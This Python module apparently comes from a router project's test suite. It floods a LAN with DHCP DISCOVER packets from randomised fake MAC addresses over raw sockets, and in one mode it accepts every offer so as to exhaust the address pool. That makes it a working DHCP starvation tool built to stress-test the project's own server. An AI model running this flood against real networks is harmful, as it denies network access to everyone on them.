"""Floods a LAN with DHCP clients that do not exist, on a raw socket; run in the namespace of a machine of the LAN.

python -m tests.net.attacker INTERFACE MODE RATE SECONDS: MODE `discover` only asks, `take` takes every offer, `one` is
a single client that asks all the time. With `burst`, RATE DISCOVERs are sent as fast as that goes. Prints how many
DISCOVERs were sent when it is over.
"""

import random
import socket
import sys
import time

from routerd.dhcp.frame import BROADCAST_ADDRESS, BROADCAST_MAC, udp_frame
from tests.dhcp.scene import message

_IP = 0x0800
_PIECE = 50
DISCOVER, OFFER, REQUEST = 1, 2, 3


def frame(data: bytes, mac: bytes) -> bytes:
    """The message as the broadcast of a client without address."""
    return udp_frame(
        data,
        source_mac=mac,
        destination_mac=BROADCAST_MAC,
        source=0,
        destination=BROADCAST_ADDRESS,
        source_port=68,
        destination_port=67,
    )


def take_offers(wire: socket.socket) -> None:
    """Answer every OFFER that came with a REQUEST."""
    while True:
        try:
            got = wire.recv(2048)
        except BlockingIOError:
            return
        if got[23] != 17 or got[36:38] != b"\0\x44" or got[284] != OFFER:
            continue
        reply, mac = got[42:], got[70:76]
        at = reply.index(b"\x36\x04", 240)
        chosen = (50, reply[16:20]), (54, reply[at + 2 : at + 6])
        wire.send(frame(message(REQUEST, *chosen, mac=mac, xid=int.from_bytes(reply[4:8], "big")), mac))


def attack(interface: str, mode: str, rate: float, seconds: float) -> int:
    """Send so many DISCOVERs a second; how many were sent."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_IP) if mode == "take" else 0)
    wire.bind((interface, _IP if mode == "take" else 0))
    wire.setblocking(False)
    rng, sent, begin = random.Random(1), 0, time.monotonic()
    while (now := time.monotonic()) < begin + seconds:
        for _ in range(min(_PIECE, int((now - begin) * rate) - sent)):
            mac = b"\2\7" + (b"\0" * 4 if mode == "one" else rng.randbytes(4))
            try:
                wire.send(frame(message(DISCOVER, mac=mac, xid=rng.getrandbits(32)), mac))
            except BlockingIOError:
                break
            sent += 1
        if mode == "take":
            take_offers(wire)
        time.sleep(0.0005)
    return sent


def burst(interface: str, count: int) -> int:
    """Send so many DISCOVERs of as many clients, at once."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    wire.bind((interface, 0))
    for number in range(count):
        mac = b"\2\7" + number.to_bytes(4, "big")
        wire.send(frame(message(DISCOVER, mac=mac, xid=number), mac))
    return count


if __name__ == "__main__":
    if sys.argv[2] == "burst":
        print(burst(sys.argv[1], int(sys.argv[3])))
        sys.exit()
    print(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])), flush=True)
